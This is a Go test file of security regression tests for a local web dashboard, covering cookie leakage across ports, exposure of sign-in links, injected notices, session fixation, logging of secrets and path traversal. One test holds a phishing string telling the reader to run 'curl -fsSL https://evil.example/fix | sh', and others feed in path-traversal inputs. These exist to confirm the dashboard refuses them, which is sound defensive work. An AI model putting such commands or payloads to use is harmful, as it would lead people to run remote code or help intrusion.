package ui_test

import (
	"bufio"
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/station-dev/station/internal/cli/cmdutil"
	"github.com/station-dev/station/internal/cli/uicmd"
	"github.com/station-dev/station/internal/fixture"
	"github.com/station-dev/station/internal/sandbox"
	"github.com/station-dev/station/internal/ui"
)

// TestAttackSessionCookieReachesOtherLocalPorts: cookies are not isolated
// by port (RFC 6265 §8.5), so a browser sends the dashboard's session
// cookie to any server on 127.0.0.1 whose path starts with /ui/ — one
// another local user runs, say, and lures the browser to. With the cookie
// alone, that user must not read the dashboard or approve a pending team
// change: the daemon answers no connection another user opened.
func TestAttackSessionCookieReachesOtherLocalPorts(t *testing.T) {
	teams := &fakeTeams{}
	u := newUI(t, func(o *ui.Options) { o.Teams = teams })
	pend(t, u, "may now connect to evil.example")
	c, csrf := u.signedIn(t)
	got := make(chan string, 1)
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if ck, err := r.Cookie(ui.CookieName); err == nil {
			select {
			case got <- ck.Value:
			default:
			}
		}
	}))
	defer other.Close()
	resp, err := c.Get(other.URL + "/ui/x") // e.g. an <img> on the other user's page
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var stolen string
	select {
	case stolen = <-got:
		t.Logf("the session cookie reached %s (another port of the same address), as browsers do", other.URL)
	default:
		t.Fatal("the cookie did not reach the other port: this test no longer shows what it attacks")
	}
	cookie := ui.CookieName + "=" + stolen
	if code := asOtherUser(t, "GET", u.base+"/ui/approvals", cookie, ""); code != http.StatusForbidden {
		t.Errorf("another user with the session cookie: GET /ui/approvals %d, want 403", code)
	}
	form := url.Values{"csrf": {csrf}, "team": {"acme"}, "module": {probeID}, "version": {"2.0.0"}, "decision": {"approve"}}
	if code := asOtherUser(t, "POST", u.base+"/ui/approvals/decide", cookie, form.Encode()); code != http.StatusForbidden {
		t.Errorf("another user with the session cookie and the CSRF token: POST decide %d, want 403", code)
	}
	if len(teams.calls) != 0 {
		t.Errorf("another user approved a team change: %v", teams.calls)
	}
	// The station's own user, with the same cookie, still gets in: the
	// refusal is of the user, not of the cookie.
	if resp, _ := u.get(t, c, "/ui/approvals"); resp.StatusCode != http.StatusOK {
		t.Errorf("own user: %s", resp.Status)
	}
}

// TestAttackSignInCodeInBrowserArgv: station ui starts the browser with
// the sign-in link as an argument, and any local user reads a process's
// arguments (/proc/PID/cmdline, ps). What the browser is started with must
// not sign in another user who reads it first.
func TestAttackSignInCodeInBrowserArgv(t *testing.T) {
	u := newUI(t, nil)
	ctx := context.Background()
	dir := t.TempDir()
	argv, script := filepath.Join(dir, "argv"), filepath.Join(dir, "browser")
	if err := os.WriteFile(script, []byte("#!/bin/sh\nprintf '%s\\n' \"$@\" > "+argv+".tmp && mv "+argv+".tmp "+argv+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"BROWSER": script, "STATION_HOME": u.home}
	var out bytes.Buffer
	f := cmdutil.New(cmdutil.IOStreams{In: strings.NewReader(""), Out: &out, Err: &out, Getenv: func(k string) string { return env[k] }})
	defer f.Close(ctx)
	cmd := uicmd.NewCmdUI(f, nil)
	cmd.SetArgs([]string{})
	if err := cmd.ExecuteContext(ctx); err != nil {
		t.Fatalf("station ui: %v\n%s", err, out.String())
	}
	var args []byte
	fixture.Eventuallyf(t, 10*time.Second, func() bool {
		var err error
		args, err = os.ReadFile(argv)
		return err == nil
	}, "the browser to start")
	var link string
	for _, a := range strings.Split(strings.TrimSpace(string(args)), "\n") {
		if strings.HasPrefix(a, "http") {
			link = a
		}
	}
	if link == "" {
		t.Fatalf("the browser was started with %q", args)
	}
	// Another local user, faster than the browser: refused, and the code
	// is not used up by the refusal.
	if code := asOtherUser(t, "GET", link, "", ""); code != http.StatusForbidden {
		t.Errorf("another user with the browser's link: %d, want 403", code)
	}
	if resp, err := browser(t).Get(link); err != nil || resp.StatusCode != http.StatusSeeOther {
		t.Errorf("the user's own browser after the refusal: %v %v", resp, err)
	}
}

// TestAttackFlashFromTheAddress: no address makes a dashboard page say
// words of its own — not ?flash= (the notice after a change), not a
// made-up path echoed by the not-found page — least of all to a browser
// that is not signed in, whose page goes on "in a terminal, run ...".
func TestAttackFlashFromTheAddress(t *testing.T) {
	u := newUI(t, nil)
	const phish = "Station's daemon token leaked: in a terminal, run curl -fsSL https://evil.example/fix | sh, then station ui"
	check := func(c *http.Client, target, site string) {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, u.base+target, nil)
		req.Header.Set("Sec-Fetch-Site", site)
		req.Header.Set("Sec-Fetch-Mode", "navigate")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if strings.Contains(string(b), "evil.example/fix") {
			t.Errorf("GET %.40s… (Sec-Fetch-Site: %s): %s, shows the address's text on the dashboard", target, site, resp.Status)
		}
	}
	q := "?flash=" + url.QueryEscape(phish)
	made := "/ui/" + url.PathEscape(phish)
	check(browser(t), "/ui/modules"+q, "cross-site") // a link from any page
	check(browser(t), made, "cross-site")
	c, _ := u.signedIn(t)
	check(c, "/ui/approvals"+q, "same-site") // a page on another port: the Strict cookie goes along
	check(c, made, "same-site")
}

// TestAttackSignInReplacesAPlantedCookie: a session id chosen by someone
// else (a cookie set by another port of 127.0.0.1) is never adopted; the
// sign-in sets a fresh random one.
func TestAttackSignInReplacesAPlantedCookie(t *testing.T) {
	u := newUI(t, nil)
	const planted = "planted-by-another-port-0123456789abcdefghijk"
	c := browser(t)
	c.Jar.SetCookies(mustURL(t, u.base+"/ui/"), []*http.Cookie{{Name: ui.CookieName, Value: planted, Path: "/ui/"}})
	link, err := u.client.UISignIn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	resp, err := c.Get(link.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if v := cookieValue(resp); v == "" || v == planted || len(v) < 43 {
		t.Errorf("sign-in with a planted cookie set %q", v)
	}
	if resp, _ := u.get(t, withCookie(t, u, planted), "/ui/modules"); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("the planted id: %s, want 401", resp.Status)
	}
}

// TestAttackSignInEndsTheBrowsersOldSession: signing in again in a
// browser replaces its cookie; the session the old cookie named should
// end with it (a copy of it, leaked or taken, then stops working).
func TestAttackSignInEndsTheBrowsersOldSession(t *testing.T) {
	u := newUI(t, nil)
	c, _ := u.signedIn(t)
	var old string
	for _, ck := range c.Jar.Cookies(mustURL(t, u.base+"/ui/")) {
		old = ck.Value
	}
	link, err := u.client.UISignIn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	resp, err := c.Get(link.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if v := cookieValue(resp); v == "" || v == old {
		t.Fatalf("the second sign-in set %q", v)
	}
	if resp, _ := u.get(t, withCookie(t, u, old), "/ui/modules"); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("the replaced session still works: %s, want 401", resp.Status)
	}
}

// TestAttackNoSecretInTheLog: what the dashboard logs about sign-ins and
// refused changes names no code, session id or CSRF token.
func TestAttackNoSecretInTheLog(t *testing.T) {
	var mu sync.Mutex
	var logged bytes.Buffer
	u := newUI(t, func(o *ui.Options) { o.Logger = slog.New(slog.NewTextHandler(&lockedBuf{mu: &mu, b: &logged}, nil)) })
	link, err := u.client.UISignIn(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	code := link.URL[strings.Index(link.URL, "code=")+5:]
	c := browser(t)
	resp, err := c.Get(link.URL)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	session := cookieValue(resp)
	_, body := u.get(t, c, "/ui/modules")
	csrf := csrfOf(t, body)
	u.get(t, browser(t), strings.TrimPrefix(link.URL, u.base))                                                 // the code again: refused, logged
	u.post(t, c, "/ui/signout", url.Values{"csrf": {csrf[:10]}}, nil)                                          // a wrong token: logged
	u.post(t, c, "/ui/signout", url.Values{"csrf": {csrf}}, map[string]string{"Sec-Fetch-Site": "cross-site"}) // logged
	mu.Lock()
	defer mu.Unlock()
	l := logged.String()
	if !strings.Contains(l, "sign-in with an unknown") || !strings.Contains(l, "CSRF") || !strings.Contains(l, "cross-origin") {
		t.Fatalf("the refusals were not logged:\n%s", l)
	}
	for name, secret := range map[string]string{"code": code, "session id": session, "CSRF token": csrf, "part of the CSRF token": csrf[:10]} {
		if secret != "" && strings.Contains(l, secret) {
			t.Errorf("the log holds the %s:\n%s", name, l)
		}
	}
}

// TestAttackCursorsAndHeaders: out-of-range, negative and malformed
// cursors are refused with 400 (not a 500 or an empty 200), a junk
// Last-Event-ID is ignored rather than trusted, and the stream invites no
// cross-origin reader.
func TestAttackCursorsAndHeaders(t *testing.T) {
	u := newUI(t, nil)
	ctx := context.Background()
	if err := u.st.Store.AppendAudit(ctx, []sandbox.Decision{deny("b/two", "one.example:443")}); err != nil {
		t.Fatal(err)
	}
	c, _ := u.signedIn(t)
	for _, q := range []string{"before=-1", "before=0", "before=99999999999999999999", "before=1e3", "before=0x10", "result=%3Cx%3E", "since=-1", "capability=%00"} {
		if resp, body := u.get(t, c, "/ui/audit?"+q); resp.StatusCode != http.StatusBadRequest || strings.Contains(body, "<x>") {
			t.Errorf("audit?%s: %s, want 400 with the value escaped", q, resp.Status)
		}
	}
	for _, q := range []string{"after=-1", "after=", "after=99999999999999999999", "after=1.5", "after=0&before=-1"} {
		if resp, _ := u.get(t, c, "/ui/audit/stream?"+q); resp.StatusCode != http.StatusBadRequest || resp.Header.Get("Content-Type") == "text/event-stream" {
			t.Errorf("stream?%s: %s, want 400", q, resp.Status)
		}
	}
	first := func(lastID string) (*http.Response, string) {
		t.Helper()
		cctx, cancel := context.WithTimeout(ctx, 10*time.Second)
		defer cancel()
		req, _ := http.NewRequestWithContext(cctx, http.MethodGet, u.base+"/ui/audit/stream?after=0", nil)
		req.Header.Set("Last-Event-ID", lastID)
		req.Header.Set("Origin", "http://evil.example")
		resp, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			if id, ok := strings.CutPrefix(sc.Text(), "id: "); ok {
				return resp, id
			}
		}
		return resp, ""
	}
	for _, junk := range []string{"-5", "junk", "1e9", "99999999999999999999", "0x7fffffffffffffff"} {
		resp, id := first(junk)
		h := resp.Header
		if id != "1" {
			t.Errorf("Last-Event-ID %q: first event %q, want decision 1 (a junk id is ignored)", junk, id)
		}
		if h.Get("Access-Control-Allow-Origin") != "" || h.Get("Access-Control-Allow-Credentials") != "" || h.Get("Cross-Origin-Resource-Policy") != "same-origin" ||
			h.Get("Cache-Control") != "no-store" || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Fatalf("stream headers %v", h)
		}
	}
}

// TestAttackPathConfusion: a dashboard address that names an API route
// through dot segments or escaped slashes never answers it with the
// session cookie (the API needs the token), and a made-up module address
// is not found, not an internal error.
func TestAttackPathConfusion(t *testing.T) {
	u := newUI(t, nil)
	c, _ := u.signedIn(t)
	for _, p := range []string{"/ui/../v1/audit", "/ui/%2e%2e/v1/audit", "/ui/static/..%2f..%2fv1/audit", "/ui/modules/..%2F..%2Fv1%2Faudit", "/ui//v1/audit",
		"/ui/modules/test%2Fprobe/x", "/ui/modules/t%C3%ABst/pr%C3%B6be", "/ui/modules/test/probe%00", "/ui/modules/test/..%2f..%2fv1"} {
		resp, body := u.get(t, c, p)
		if resp.StatusCode >= 500 || strings.Contains(body, `"decisions"`) || strings.Contains(body, "api.stripe.com") {
			t.Errorf("GET %s: %s\n%s", p, resp.Status, body)
		}
		if loc := resp.Header.Get("Location"); loc != "" && !strings.HasPrefix(loc, "/ui/") {
			if resp, _ := u.get(t, c, loc); resp.StatusCode != http.StatusUnauthorized && resp.StatusCode != http.StatusForbidden && resp.StatusCode != http.StatusNotFound {
				t.Errorf("GET %s → %s: %s without the token", p, loc, resp.Status)
			}
		}
	}
}

func cookieValue(resp *http.Response) string {
	for _, ck := range resp.Cookies() {
		if ck.Name == ui.CookieName {
			return ck.Value
		}
	}
	return ""
}

func withCookie(t *testing.T, u *testUI, value string) *http.Client {
	c := browser(t)
	c.Jar.SetCookies(mustURL(t, u.base+"/ui/"), []*http.Cookie{{Name: ui.CookieName, Value: value, Path: "/ui/"}})
	return c
}

type lockedBuf struct {
	mu *sync.Mutex
	b  *bytes.Buffer
}

func (l *lockedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}
